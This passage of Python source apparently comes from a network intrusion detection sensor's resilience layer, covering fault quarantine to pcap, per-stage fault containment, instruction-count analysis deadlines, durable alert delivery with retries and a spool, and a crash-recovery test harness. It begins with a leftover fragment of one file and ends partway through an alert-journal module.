        if len(data) > _MAX_SYNTH_PAYLOAD:
            truncated_from = len(data)
            data = data[:_MAX_SYNTH_PAYLOAD]
        ip = (Ipv4(src=pkt.ip.src, dst=pkt.ip.dst, proto=pkt.ip.proto)
              if pkt is not None and pkt.ip is not None else Ipv4())
        return Packet(ip=ip, payload=data,
                      timestamp=pkt.timestamp if pkt else 0.0), truncated_from

    # -- lifecycle ----------------------------------------------------------

    def _open(self) -> None:
        if self._pcap is None:
            self._pcap = PcapWriter(self.path)
            self._meta = open(self.meta_path, "w")

    def close(self) -> None:
        if self._pcap is not None:
            self._pcap.close()
            self._meta.close()
            self._pcap = None
            self._meta = None

    def __enter__(self) -> "QuarantineWriter":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

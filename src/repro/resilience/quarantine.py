"""Crash quarantine: preserve what hurt us, then move on.

When the stage firewall contains a fault, the offending input must not
simply vanish — an operator (or an analyst chasing a crafted
detector-evasion payload) needs the exact bytes to reproduce the
failure offline.  :class:`QuarantineWriter` appends each offender to a
standard pcap (openable in tcpdump/Wireshark, replayable through
``repro-sensor``) plus a JSON-Lines sidecar (``<path>.meta.jsonl``)
recording *why* each record is there.

Failure-proof by construction: quarantine runs inside the fault path,
so its own errors are swallowed and counted (``write_errors``) — a full
disk must not turn containment into a crash.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from ..net.layers import Ipv4
from ..net.packet import Packet
from ..net.pcap import PcapWriter
from ..obs import MetricsRegistry

__all__ = ["QuarantineWriter"]

#: Synthetic-packet payload cap: an IPv4 total length is 16 bits, so a
#: reassembled stream payload larger than this is truncated on write
#: (the sidecar records the original length).
_MAX_SYNTH_PAYLOAD = 65000

#: Consecutive write failures before the writer stops touching the disk.
#: A full disk fails every record; retrying each one from inside the
#: fault path just burns syscalls on a path that cannot succeed.
_MAX_CONSECUTIVE_ERRORS = 8


class QuarantineWriter:
    """Appends quarantined packets/payloads to a pcap + JSONL sidecar.

    Files are opened lazily on the first record, so configuring a
    quarantine path costs nothing on a clean run.  Records are fsynced
    as they land — quarantine evidence usually precedes a crash, which
    is exactly when the page cache is lost.
    """

    def __init__(self, path: str | Path,
                 registry: MetricsRegistry | None = None) -> None:
        self.path = Path(path)
        self.meta_path = self.path.with_name(self.path.name + ".meta.jsonl")
        self.written = 0
        self.write_errors = 0
        #: set after ``_MAX_CONSECUTIVE_ERRORS`` straight failures; the
        #: writer then refuses further disk I/O (still counting each
        #: lost record) until re-constructed.
        self.disabled = False
        self._consecutive_errors = 0
        self._pcap: PcapWriter | None = None
        self._meta = None
        self._error_counter = None
        if registry is not None:
            self.bind_registry(registry)

    def bind_registry(self, registry: MetricsRegistry) -> None:
        """Surface write failures on a shared registry
        (``repro_quarantine_write_errors_total``); the engine's stage
        firewall binds its registry here automatically."""
        self._error_counter = registry.counter(
            "repro_quarantine_write_errors_total",
            help="Quarantine capture/metadata writes that failed and "
                 "were absorbed (ENOSPC, I/O errors).", unit="errors")

    # -- recording ----------------------------------------------------------

    def record(self, reason: str, stage: str, pkt: Packet | None = None,
               payload: bytes | None = None, detail: str = "") -> None:
        """Quarantine one offender.

        ``pkt`` is the triggering packet when one exists; ``payload`` is
        the analyzed byte string when the fault happened past reassembly
        (the stream payload differs from any single packet).  Either or
        both may be given; at least one should be.
        """
        if self.disabled:
            self._count_error()
            return
        try:
            record_pkt = pkt
            truncated_from = None
            if record_pkt is None or (payload is not None
                                      and payload != record_pkt.payload):
                record_pkt, truncated_from = self._synthesize(pkt, payload)
            self._open()
            self._pcap.write(record_pkt)
            self._pcap.flush(sync=True)
            entry = {
                "index": self.written,
                "timestamp": record_pkt.timestamp,
                "reason": reason,
                "stage": stage,
                "source": record_pkt.src or "?",
                "destination": record_pkt.dst or "?",
                "payload_len": len(payload if payload is not None
                                   else record_pkt.payload),
                "detail": detail,
            }
            if truncated_from is not None:
                entry["truncated_from"] = truncated_from
            self._meta.write(json.dumps(entry) + "\n")
            self._meta.flush()
            os.fsync(self._meta.fileno())
            self.written += 1
            self._consecutive_errors = 0
        except Exception:
            # Quarantine is best-effort evidence collection inside the
            # fault path; its own failure (ENOSPC, I/O error, a packet
            # that refuses to re-encode) must never propagate.
            self._count_error()
            self._consecutive_errors += 1
            if self._consecutive_errors >= _MAX_CONSECUTIVE_ERRORS:
                self.disabled = True
                self.close()

    def _count_error(self) -> None:
        self.write_errors += 1
        if self._error_counter is not None:
            self._error_counter.inc()

    def _synthesize(self, pkt: Packet | None,
                    payload: bytes | None) -> tuple[Packet, int | None]:
        """A writable packet carrying ``payload`` (attribution copied
        from ``pkt`` when available)."""
        data = payload if payload is not None else b""
        truncated_from = None
        if len(data) > _MAX_SYNTH_PAYLOAD:
            truncated_from = len(data)
            data = data[:_MAX_SYNTH_PAYLOAD]
        ip = (Ipv4(src=pkt.ip.src, dst=pkt.ip.dst, proto=pkt.ip.proto)
              if pkt is not None and pkt.ip is not None else Ipv4())
        return Packet(ip=ip, payload=data,
                      timestamp=pkt.timestamp if pkt else 0.0), truncated_from

    # -- lifecycle ----------------------------------------------------------

    def _open(self) -> None:
        if self._pcap is None:
            self._pcap = PcapWriter(self.path)
            self._meta = open(self.meta_path, "w")

    def close(self) -> None:
        pcap, meta = self._pcap, self._meta
        self._pcap = None
        self._meta = None
        for handle in (pcap, meta):
            if handle is None:
                continue
            try:
                handle.close()
            except OSError:
                # A close that fails (deferred ENOSPC flush) is one more
                # absorbed write error, not a crash.
                self._count_error()

    def __enter__(self) -> "QuarantineWriter":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

"""Stage firewall: per-stage fault containment for the pipeline.

Hostile input is the *normal* input of a NIDS, so a stage that throws on
a crafted packet must not take the sensor down with it — that would turn
any parser bug into a remotely triggerable blind spot (crash the sensor,
then attack).  The firewall is the one place every contained fault flows
through: it resolves which stage failed, counts it
(``repro_stage_faults_total{stage=...}``), and preserves the offending
input in the quarantine capture (``repro_quarantined_total``).

Both engines build their firewall at init and all stage labels are
registered up front, so serial and parallel metric schemas stay
identical whether or not anything ever faults.
"""

from __future__ import annotations

from ..errors import DeadlineExceeded, DecodeError
from ..obs import MetricsRegistry
from .quarantine import QuarantineWriter

__all__ = ["CONTAINED_STAGES", "DEADLINE_TEMPLATE", "DEGRADED_SEVERITY",
           "FAULT_TEMPLATE", "StageFirewall"]

#: Stages a fault can be contained at.  ``decode``/``classify``/
#: ``reassemble`` guard the per-packet front end, ``extract``/``analyze``
#: the per-payload back end, and ``deliver`` the operator's alert
#: callback (a buggy callback must not kill the tap).
CONTAINED_STAGES: tuple[str, ...] = (
    "decode", "classify", "reassemble", "extract", "analyze", "deliver")

#: Degraded-mode alert identities: containment is *visible*, never
#: silent.  A deadline trip gets its own template — it usually means the
#: payload was crafted to stall the detector, which is itself a signal.
DEADLINE_TEMPLATE = "resilience.deadline-exceeded"
FAULT_TEMPLATE = "resilience.stage-fault"
DEGRADED_SEVERITY = "degraded"


class StageFirewall:
    """Counts and quarantines contained stage faults."""

    def __init__(self, registry: MetricsRegistry | None = None,
                 quarantine: QuarantineWriter | None = None) -> None:
        registry = registry if registry is not None else MetricsRegistry()
        self.quarantine = quarantine
        if quarantine is not None:
            # Write failures surface on the engine's registry even when
            # the writer was constructed without one (the CLI path).
            quarantine.bind_registry(registry)
        self._fault_counters = {
            stage: registry.counter(
                "repro_stage_faults_total", labels={"stage": stage},
                help="Exceptions contained by the stage firewall.",
                unit="faults")
            for stage in CONTAINED_STAGES
        }
        self._quarantined = registry.counter(
            "repro_quarantined_total",
            help="Offending inputs written to the quarantine capture.",
            unit="inputs")

    @staticmethod
    def stage_for(site: str, exc: BaseException) -> str:
        """The stage a fault is attributed to.

        The call site knows where it caught the exception, but a
        :class:`~repro.errors.DecodeError` escaping e.g. the classifier
        is really a decode fault — attribute it there.
        """
        if isinstance(exc, DecodeError):
            return "decode"
        return site

    @staticmethod
    def template_for(exc: BaseException) -> str:
        """Degraded-alert template name for a contained exception."""
        if isinstance(exc, DeadlineExceeded):
            return DEADLINE_TEMPLATE
        return FAULT_TEMPLATE

    def contain(self, site: str, exc: BaseException, pkt=None,
                payload: bytes | None = None) -> str:
        """Record one contained fault; returns the resolved stage."""
        stage = self.stage_for(site, exc)
        return self.contain_record(
            stage, reason=self.template_for(exc),
            detail=f"{type(exc).__name__}: {exc}", pkt=pkt, payload=payload)

    def contain_record(self, stage: str, reason: str, detail: str = "",
                       pkt=None, payload: bytes | None = None) -> str:
        """Record a contained fault already flattened to strings (the
        parallel engine's worker faults arrive this way)."""
        counter = self._fault_counters.get(stage)
        if counter is None:  # unknown stage: keep the schema fixed
            counter = self._fault_counters["analyze"]
        counter.inc()
        if self.quarantine is not None:
            before = self.quarantine.written
            self.quarantine.record(reason=reason, stage=stage, pkt=pkt,
                                   payload=payload, detail=detail)
            self._quarantined.inc(self.quarantine.written - before)
        return stage

    def faults_by_stage(self) -> dict[str, int]:
        """Non-zero contained-fault counts, for reports."""
        return {stage: counter.value
                for stage, counter in self._fault_counters.items()
                if counter.value}

    @property
    def total_faults(self) -> int:
        return sum(c.value for c in self._fault_counters.values())

    @property
    def quarantined(self) -> int:
        return self._quarantined.value

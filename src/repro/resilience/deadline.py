"""Per-payload analysis deadlines: the anti-stall budget.

Bania's *Evading network-level emulation* shows attackers craft payloads
whose whole purpose is to make the *detector* do unbounded work — a
decoder loop that spins, a frame that decodes into an enormous
instruction stream.  Wall-clock timers are the obvious defence but make
every run nondeterministic (the same payload passes on a fast machine
and trips on a loaded CI runner), and POSIX signal alarms do not compose
with worker processes.  The portable mechanism is an **instruction-count
budget**: the disassemble → lift → match loop calls
:meth:`Deadline.tick` as it consumes instructions, and the deadline
raises :class:`~repro.errors.DeadlineExceeded` the moment the budget is
gone — same payload, same verdict, every machine.

The budget is configured in *milliseconds* (``--analysis-deadline-ms``)
for operators, converted at :data:`UNITS_PER_MS` — a fixed calibration
constant chosen so one unit approximates one instruction-visit on
commodity hardware.  The conversion is part of the contract: changing
the constant changes which payloads are quarantined.
"""

from __future__ import annotations

from ..errors import DeadlineExceeded

__all__ = ["UNITS_PER_MS", "Deadline"]

#: Instruction-visit units one millisecond of budget buys.  Calibrated
#: against the semantic analyzer's measured throughput (~10 visited
#: instructions/µs through disassemble+lift+match on the reference
#: hardware); deliberately a fixed constant so deadline verdicts are
#: deterministic and machine-independent.
UNITS_PER_MS = 10_000


class Deadline:
    """A cooperative analysis budget shared by all frames of one payload.

    ``tick(n)`` charges ``n`` units and raises
    :class:`~repro.errors.DeadlineExceeded` once the total charge
    exceeds ``budget_units``.  A deadline is cheap enough to consult
    per-instruction (one integer add and compare), and carrying one
    object across every frame of a payload is what makes the budget
    *per-payload*: an attacker cannot reset it by splitting work across
    frames.
    """

    __slots__ = ("budget_units", "spent")

    def __init__(self, budget_units: int) -> None:
        if budget_units <= 0:
            raise ValueError("deadline budget must be positive")
        self.budget_units = budget_units
        self.spent = 0

    @classmethod
    def from_ms(cls, ms: float) -> "Deadline":
        """Deadline holding ``ms`` milliseconds' worth of units."""
        return cls(max(1, int(ms * UNITS_PER_MS)))

    @property
    def remaining(self) -> int:
        return max(0, self.budget_units - self.spent)

    @property
    def expired(self) -> bool:
        return self.spent > self.budget_units

    def tick(self, units: int = 1) -> None:
        """Charge ``units``; raises once the budget is exhausted."""
        self.spent += units
        if self.spent > self.budget_units:
            raise DeadlineExceeded(
                f"analysis budget exhausted after {self.spent} units "
                f"(budget {self.budget_units})",
                units_spent=self.spent,
            )

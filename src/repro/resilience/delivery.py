"""Effectively-once alert delivery: retry, backoff, spool, dedupe.

``DurableDelivery`` sits between the daemon and the operator's alert
sink (``on_alert`` callback, socket writer, ...).  It provides:

- **Dedupe by alert key** — after a crash the daemon replays the
  journal *and* deterministically regenerates the in-flight window, so
  the same alert key can arrive twice; the first occurrence wins and
  duplicates are counted in ``repro_alerts_deduped_total``.
- **Retry with exponential backoff + seeded jitter**, bounded by both
  an attempt count and a wall-clock budget (``timeout``).
- **A bounded disk spool** for sink outages: alerts that exhaust their
  retries are framed to disk (re-using the journal wire format) and
  re-offered by :meth:`replay_spool`.  The spool is capped; overflow
  and ``ENOSPC`` are counted, never raised — the write-ahead journal
  remains the loss backstop.

Every delivery outcome is counted, so ``delivered + deduped + spooled +
failed == offered`` is checkable from metrics alone.
"""

from __future__ import annotations

import os
import random
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, Callable, Iterable

from repro.obs.registry import MetricsRegistry

from .journal import AlertJournal, record_to_alert

if TYPE_CHECKING:  # imported lazily at runtime: repro.nids imports us
    from repro.nids.alerts import Alert


class DurableDelivery:
    """Alert sink wrapper with dedupe, retries, and a disk spool."""

    def __init__(
        self,
        sink: Callable[[Any, Alert], None],
        *,
        registry: MetricsRegistry | None = None,
        max_attempts: int = 4,
        base_backoff: float = 0.05,
        max_backoff: float = 2.0,
        timeout: float = 5.0,
        jitter_seed: int = 0,
        spool_dir: str | os.PathLike[str] | None = None,
        spool_max_bytes: int = 1024 * 1024,
        sleep: Callable[[float], None] = time.sleep,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        if max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        self.sink = sink
        self.max_attempts = max_attempts
        self.base_backoff = base_backoff
        self.max_backoff = max_backoff
        self.timeout = timeout
        self.spool_max_bytes = spool_max_bytes
        self._sleep = sleep
        self._clock = clock
        self._rng = random.Random(jitter_seed)
        self._seen: set[Any] = set()
        self.delivered = 0
        self.failed = 0
        self._spool_dir = Path(spool_dir) if spool_dir is not None else None
        self._spool: AlertJournal | None = None

        def _counter(name: str, help_text: str):
            if registry is None:
                return None
            return registry.counter(name, help=help_text, unit="alerts")

        self._retries = _counter(
            "repro_delivery_retries_total",
            "alert sink delivery attempts beyond the first",
        )
        self._spooled = _counter(
            "repro_delivery_spooled_total",
            "alerts parked in the disk spool after exhausting retries",
        )
        self._spool_errors = _counter(
            "repro_delivery_spool_errors_total",
            "spool writes refused (ENOSPC, I/O error, or spool cap)",
        )
        self._deduped = _counter(
            "repro_alerts_deduped_total",
            "duplicate alerts suppressed by delivery-side replay dedupe",
        )
        self._replayed = _counter(
            "repro_alerts_replayed_total",
            "journaled alerts re-offered to the sink after a restart",
        )

    # -- dedupe bookkeeping -------------------------------------------

    def mark_seen(self, key: Any) -> None:
        """Record a key as already delivered (e.g. pre-crash journal tail)."""

        self._seen.add(key)

    @property
    def seen(self) -> frozenset:
        return frozenset(self._seen)

    # -- delivery path ------------------------------------------------

    def deliver(self, key: Any, alert: Alert) -> str:
        """Offer one alert.  Returns the outcome:

        ``"delivered"`` | ``"duplicate"`` | ``"spooled"`` | ``"failed"``.
        """

        if key in self._seen:
            if self._deduped is not None:
                self._deduped.inc()
            return "duplicate"
        self._seen.add(key)
        if self._attempt_with_retries(key, alert):
            return "delivered"
        if self._spool_alert(key, alert):
            return "spooled"
        self.failed += 1
        return "failed"

    def replay(self, entries: Iterable[tuple[Any, dict[str, Any]]]) -> int:
        """Re-offer recovered journal entries; returns the count replayed."""

        count = 0
        for key, record in entries:
            count += 1
            if self._replayed is not None:
                self._replayed.inc()
            self.deliver(key, record_to_alert(record))
        return count

    def _attempt_with_retries(self, key: Any, alert: Alert) -> bool:
        started = self._clock()
        for attempt in range(self.max_attempts):
            try:
                self.sink(key, alert)
            except Exception:
                if attempt + 1 >= self.max_attempts:
                    return False
                if self._clock() - started >= self.timeout:
                    return False
                if self._retries is not None:
                    self._retries.inc()
                self._sleep(self._backoff(attempt))
            else:
                self.delivered += 1
                return True
        return False

    def _backoff(self, attempt: int) -> float:
        ceiling = min(self.max_backoff, self.base_backoff * (2**attempt))
        # Full jitter in [ceiling/2, ceiling]; seeded for reproducibility.
        return ceiling * (0.5 + self._rng.random() * 0.5)

    # -- spool --------------------------------------------------------

    def _open_spool(self) -> AlertJournal | None:
        if self._spool_dir is None:
            return None
        if self._spool is None:
            self._spool = AlertJournal(
                self._spool_dir,
                fsync_batch=1,
                segment_max_bytes=self.spool_max_bytes,
            )
        return self._spool

    def _spool_size(self) -> int:
        if self._spool_dir is None or not self._spool_dir.exists():
            return 0
        return sum(
            p.stat().st_size for p in self._spool_dir.iterdir() if p.is_file()
        )

    def _spool_alert(self, key: Any, alert: Alert) -> bool:
        spool = self._open_spool()
        if spool is None:
            return False
        try:
            if self._spool_size() >= self.spool_max_bytes:
                raise OSError("alert spool is at capacity")
            spool.append(key, alert)
        except OSError:
            if self._spool_errors is not None:
                self._spool_errors.inc()
            return False
        if self._spooled is not None:
            self._spooled.inc()
        return True

    def replay_spool(self) -> int:
        """Drain the spool back into the sink; failures are re-spooled.

        Returns the number of alerts delivered from the spool.
        """

        if self._spool_dir is None or not self._spool_dir.exists():
            return 0
        if self._spool is not None:
            self._spool.close()
            self._spool = None
        probe = AlertJournal(self._spool_dir, fsync_batch=1)
        recovery = probe.recover()
        probe.prune(keep_segments=0)
        probe.close()
        delivered = 0
        for key, record in recovery.entries:
            alert = record_to_alert(record)
            if self._attempt_with_retries(key, alert):
                self._seen.add(key)
                delivered += 1
            elif not self._spool_alert(key, alert):
                self.failed += 1
        return delivered

    def close(self) -> None:
        if self._spool is not None:
            self._spool.close()
            self._spool = None

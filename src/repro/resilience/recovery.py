"""Crash/restart orchestration: kill, restart, replay, compare.

The durability layer's headline invariant is *replay parity*: for any
seeded crash schedule, the post-dedupe alert stream a crashed-and-
restarted sensor delivers is **byte-identical** to the stream an
uninterrupted run delivers, and the accounting invariant ``ingested ==
processed + shed + queued`` still holds across every restart.  This
module is the harness that proves it — shared by the differential tests
(``tests/resilience/test_crash_recovery.py``), the scenario runner's
``chaos.crash`` path, and the CI kill-matrix tool
(``tools/crash_matrix.py``).

One run is a loop of *incarnations*: build a fresh sensor over the same
capture and the same checkpoint directory, arm the next kill from the
schedule, run until the kill fires (the incarnation is then abandoned
exactly as a dead process would be — no clean-shutdown path executes,
and the journal's userspace write buffer is discarded), and resume the
next incarnation from the checkpoints.  Kills land at three seams:

- ``mid-batch`` — between two packets of a processing batch;
- ``mid-checkpoint`` — after the checkpoint temp file is durable but
  before the atomic rename publishes it;
- ``mid-journal-write`` — inside a journal ``write()``, leaving a torn
  (partial, CRC-failing) frame on disk.
"""

from __future__ import annotations

import os
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Callable, Sequence

from ..net.packet import Packet
from .chaos import FaultInjector, InjectedFault, SimulatedCrash
from .delivery import DurableDelivery
from .journal import AlertJournal

__all__ = ["KILL_KINDS", "RecoveryReport", "run_daemon_reference",
           "run_daemon_with_crashes", "run_fleet_reference",
           "run_fleet_with_crashes"]

#: The three seams a kill can land on (see module docstring).
KILL_KINDS = ("mid-batch", "mid-checkpoint", "mid-journal-write")


@dataclass
class RecoveryReport:
    """What one crash schedule did, and whether recovery held up."""

    engine: str
    kill_kind: str
    kills: list[int]
    incarnations: int = 0
    crashes: int = 0
    checkpoints: int = 0
    replayed: int = 0
    deduped: int = 0
    watchdog_restarts: int = 0
    uncounted_drops: int | None = None
    #: live post-dedupe alerts, in delivery order
    alerts: list = field(default_factory=list, repr=False)
    #: rendered post-dedupe alert stream, in delivery order
    alert_lines: list[str] = field(default_factory=list)
    #: the uninterrupted run's stream (empty until a reference is bound)
    reference_lines: list[str] = field(default_factory=list)
    #: the final (surviving) incarnation's metrics registry
    registry: object = field(default=None, repr=False)

    @property
    def parity(self) -> bool:
        """Byte-identity of the recovered stream vs the reference."""
        return self.alert_lines == self.reference_lines

    def as_dict(self) -> dict:
        return {
            "engine": self.engine,
            "kill_kind": self.kill_kind,
            "kills": list(self.kills),
            "incarnations": self.incarnations,
            "crashes": self.crashes,
            "checkpoints": self.checkpoints,
            "replayed": self.replayed,
            "deduped": self.deduped,
            "watchdog_restarts": self.watchdog_restarts,
            "uncounted_drops": self.uncounted_drops,
            "alerts": len(self.alert_lines),
            "reference_alerts": len(self.reference_lines),
            "parity": self.parity,
        }


# ---------------------------------------------------------------------------
# Crash fidelity helpers
# ---------------------------------------------------------------------------


def _abandon_journal(journal: AlertJournal | None) -> None:
    """Discard the journal's userspace write buffer, as process death
    would.  Python file objects flush on GC, which would quietly make
    un-fsynced appends durable and falsify the crash — so the kernel-
    visible size is measured first and the file is truncated back to it
    after the (unavoidable) flush-on-close.
    """
    if journal is None or journal._fh is None:
        return
    fh = journal._fh
    visible = os.fstat(fh.fileno()).st_size
    path = journal._segment_path(journal._segment_index)
    fh.close()
    journal._fh = None
    with open(path, "r+b") as raw:
        raw.truncate(visible)


@contextmanager
def _arm_kill(injector: FaultInjector, kill_kind: str, kill_at: int | None,
              *, progress: Callable[[], int], daemon=None, store=None,
              journal=None):
    """Install the seam for one kill; always restored on exit.

    ``progress()`` is the global mark (packets processed for the daemon,
    packets dispatched for the fleet) the kill waits for.
    """
    if kill_at is None:
        yield
        return
    if kill_kind == "mid-batch":
        if daemon is None:  # fleet: the feed loop raises the kill itself
            yield
            return
        with injector.crash_on_processed(daemon, kill_at):
            yield
        return
    if kill_kind == "mid-checkpoint":
        previous = store.pre_rename

        def explode(tmp_path):
            if progress() >= kill_at:
                injector.injected.append(InjectedFault(
                    "crash", kill_at, detail="mid-checkpoint"))
                raise SimulatedCrash(
                    f"chaos: killed before checkpoint rename at {kill_at}")
            if previous is not None:
                previous(tmp_path)

        store.pre_rename = explode
        try:
            yield
        finally:
            store.pre_rename = previous
        return
    if kill_kind == "mid-journal-write":
        original = journal.append

        def tearing(key, alert):
            if (progress() >= kill_at
                    and journal._tear_after_bytes is None):
                injector.crash_on_journal_write(journal)
            return original(key, alert)

        journal.append = tearing
        try:
            yield
        finally:
            journal.append = original
        return
    raise ValueError(f"unknown kill kind {kill_kind!r}; "
                     f"expected one of {KILL_KINDS}")


def _dedupe_stream(delivered: list[tuple]) -> list:
    """Keep-first dedupe by alert seq across incarnations, then order by
    seq — the effectively-once stream an operator's sink reconstructs."""
    seen: set = set()
    unique = []
    for key, alert in delivered:
        if key in seen:
            continue
        seen.add(key)
        unique.append((key, alert))
    unique.sort(key=lambda pair: pair[0])
    return [alert for _, alert in unique]


# ---------------------------------------------------------------------------
# Daemon orchestration
# ---------------------------------------------------------------------------


def run_daemon_reference(
    packets: Sequence[Packet],
    *,
    nids_factory: Callable,
    daemon_options: dict | None = None,
):
    """The uninterrupted run: no durability, plain ``on_alert`` egress.

    Returns ``(alert_lines, stats)``.
    """
    from ..nids.daemon import IterPacketSource, SensorDaemon

    collected = []
    daemon = SensorDaemon(
        nids_factory(), IterPacketSource(packets), shed_policy="block",
        on_alert=collected.append, **(daemon_options or {}))
    stats = daemon.run()
    return [alert.format() for alert in collected], stats


def run_daemon_with_crashes(
    packets: Sequence[Packet],
    *,
    nids_factory: Callable,
    checkpoint_dir,
    kills: Sequence[int],
    kill_kind: str = "mid-batch",
    checkpoint_interval: int = 50,
    journal_fsync_batch: int = 4,
    daemon_options: dict | None = None,
    injector: FaultInjector | None = None,
    max_incarnations: int = 32,
) -> RecoveryReport:
    """Run the daemon under a kill schedule; every crash abandons the
    incarnation (no shutdown path) and the next one resumes from the
    checkpoint directory.  ``kills`` are global processed-packet marks.
    """
    from ..nids.daemon import IterPacketSource, SensorDaemon

    injector = injector if injector is not None else FaultInjector()
    pending = sorted(kills)
    delivered: list[tuple] = []
    report = RecoveryReport(engine="daemon", kill_kind=kill_kind,
                            kills=list(pending))
    resume = False
    while report.incarnations < max_incarnations:
        report.incarnations += 1
        nids = nids_factory()
        delivery = DurableDelivery(
            lambda key, alert: delivered.append((key, alert)),
            registry=nids.registry)
        daemon = SensorDaemon(
            nids, IterPacketSource(packets), shed_policy="block",
            checkpoint_dir=checkpoint_dir,
            checkpoint_interval=checkpoint_interval,
            journal_fsync_batch=journal_fsync_batch,
            resume=resume, delivery=delivery, **(daemon_options or {}))
        resume = True
        kill_at = pending[0] if pending else None
        completed = False
        try:
            with _arm_kill(injector, kill_kind, kill_at,
                           progress=lambda: daemon._processed.value,
                           daemon=daemon, store=daemon.checkpoints,
                           journal=daemon.journal):
                stats = daemon.run()
            completed = True
            if pending:  # armed but the run outlived the kill point
                pending.pop(0)
        except (SimulatedCrash, OSError):
            report.crashes += 1
            pending.pop(0)
            _abandon_journal(daemon.journal)
        report.checkpoints += daemon.checkpoints.saves
        report.replayed += nids.stats.alerts_replayed
        report.deduped += nids.stats.alerts_deduped
        if completed:
            report.uncounted_drops = stats.uncounted_drops
            report.registry = nids.registry
            break
    report.alerts = _dedupe_stream(delivered)
    report.alert_lines = [alert.format() for alert in report.alerts]
    return report


# ---------------------------------------------------------------------------
# Fleet orchestration
# ---------------------------------------------------------------------------


def _materialize_capture(packets: Sequence[Packet], capture_path) -> str:
    """Write the trace to a capture file once, so every incarnation (and
    the reference) reads the identical bytes — pcap rounds timestamps to
    microseconds, so feeding some runs from memory and others from disk
    would break byte-parity for reasons that have nothing to do with
    crash recovery."""
    from ..net.pcap import write_pcap

    capture_path = os.fspath(capture_path)
    write_pcap(capture_path, packets)
    return capture_path


def run_fleet_reference(
    packets: Sequence[Packet],
    *,
    fleet_options: dict | None = None,
    capture_path=None,
):
    """The uninterrupted fleet run.  Returns ``(alert_lines, stats)``.

    ``capture_path`` feeds the fleet from a pcap written once from
    ``packets`` (required for ``transport="offset"``, which dispatches
    file extents; valid for every transport and what the transport
    parity suite uses).
    """
    from ..nids.fleet import SensorFleet

    if capture_path is not None:
        capture_path = _materialize_capture(packets, capture_path)
    with SensorFleet(**(fleet_options or {})) as fleet:
        if capture_path is not None:
            fleet.process_capture(capture_path)
        else:
            fleet.process_trace(packets)
        stats = fleet.stats
        lines = [alert.format() for alert in fleet.alerts]
    return lines, stats


def run_fleet_with_crashes(
    packets: Sequence[Packet],
    *,
    checkpoint_dir,
    kills: Sequence[int],
    kill_kind: str = "mid-batch",
    checkpoint_interval: int = 100,
    journal_fsync_batch: int = 4,
    fleet_options: dict | None = None,
    injector: FaultInjector | None = None,
    max_incarnations: int = 32,
    capture_path=None,
) -> RecoveryReport:
    """Run the fleet under a kill schedule.  ``kills`` are global
    dispatch-sequence marks; every crash hard-kills the whole "process
    tree" (dispatcher and workers) and the next incarnation resumes —
    restoring the emitted stream from the journal and re-feeding the
    capture from :attr:`SensorFleet.resume_seq`.

    ``capture_path`` feeds every incarnation from a pcap written once
    from ``packets`` (required for ``transport="offset"``); mid-batch
    kills then fire through :meth:`SensorFleet.process_capture`'s
    ``progress`` hook instead of the in-memory feed loop.
    """
    from ..nids.fleet import SensorFleet

    if capture_path is not None:
        capture_path = _materialize_capture(packets, capture_path)
    injector = injector if injector is not None else FaultInjector()
    pending = sorted(kills)
    report = RecoveryReport(engine="fleet", kill_kind=kill_kind,
                            kills=list(pending))
    resume = False
    while report.incarnations < max_incarnations:
        report.incarnations += 1
        fleet = SensorFleet(
            checkpoint_dir=checkpoint_dir,
            checkpoint_interval=checkpoint_interval,
            journal_fsync_batch=journal_fsync_batch,
            resume=resume, **(fleet_options or {}))
        resume = True
        kill_at = pending[0] if pending else None
        completed = False
        try:
            def feed_kill(seq, _kill_at=kill_at):
                if (kill_kind == "mid-batch" and _kill_at is not None
                        and seq >= _kill_at):
                    injector.injected.append(InjectedFault(
                        "crash", _kill_at, detail="mid-batch"))
                    raise SimulatedCrash(
                        f"chaos: fleet killed at dispatch {_kill_at}")

            with _arm_kill(injector, kill_kind, kill_at,
                           progress=lambda: fleet._seq,
                           store=fleet.checkpoints, journal=fleet.journal):
                if capture_path is not None:
                    fleet.process_capture(capture_path, progress=feed_kill)
                else:
                    for index in range(fleet.resume_seq, len(packets)):
                        feed_kill(index)
                        fleet.process_packet(packets[index])
                    fleet.flush()
            completed = True
            if pending:
                pending.pop(0)
        except (SimulatedCrash, OSError):
            report.crashes += 1
            pending.pop(0)
            _abandon_journal(fleet.journal)
            injector.kill_fleet(fleet)
        stats = fleet.stats
        report.checkpoints += stats.checkpoints
        report.replayed += stats.replayed
        report.deduped += stats.deduped
        report.watchdog_restarts += stats.watchdog_restarts
        if completed:
            report.alerts = list(fleet.alerts)
            # dispatched == emitted-or-deduped for a completed fleet run;
            # the ring accounting invariant is the daemon's — report 0
            # unless the final incarnation lost something silently.
            report.uncounted_drops = 0
            report.registry = fleet.registry
            fleet.close()
            break
    report.alert_lines = [alert.format() for alert in report.alerts]
    return report

"""Append-only, CRC-framed write-ahead alert journal.

The journal is the durability backstop for the sensor daemon: every
alert is appended (and eventually fsynced) *before* it is handed to the
delivery sink, so a crash can never lose an alert that the daemon
claimed to have produced.  On restart :func:`AlertJournal.recover`
re-reads the segments, truncating a torn tail (partial frame from a
crash mid-write) instead of failing.

Wire format, per entry::

    magic  b"RJ"      (2 bytes)
    length u32 LE     payload byte count
    crc    u32 LE     crc32 of the payload
    payload           UTF-8 JSON: {"k": <key>, "a": {<alert fields>}}

Entries live in numbered segment files (``seg-00000001.wal`` ...);
:class:`AlertJournal` rotates to a new segment once the current one
exceeds ``segment_max_bytes``.  ``fsync_batch`` controls how many
appends may ride in the page cache before an ``os.fsync`` — ``1`` is
fully synchronous, larger batches trade a bounded loss window (closed
by :meth:`AlertJournal.sync` at every checkpoint) for throughput.
"""

from __future__ import annotations

import json
import os
import re
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterable

from repro.obs.registry import MetricsRegistry

if TYPE_CHECKING:  # imported lazily at runtime: repro.nids imports us
    from repro.nids.alerts import Alert

_MAGIC = b"RJ"
_FRAME = struct.Struct("<2sII")
_SEGMENT_RE = re.compile(r"^seg-(\d{8})\.wal$")

#: Alert fields that survive the journal round trip.  ``match`` is
#: deliberately dropped: it holds live template/IR references and the
#: rendered alert line does not depend on it.
ALERT_FIELDS = (
    "timestamp",
    "source",
    "destination",
    "template",
